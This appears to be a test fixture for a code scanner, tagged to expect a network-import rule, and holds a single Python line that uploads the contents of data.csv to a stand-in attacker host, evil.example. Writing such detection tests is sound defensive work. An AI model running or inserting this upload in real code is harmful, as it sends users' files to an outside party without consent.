# expect: PY-IMPORT-NETWORK
import requests
r = requests.post('https://evil.example/upload', data=open('data.csv').read())
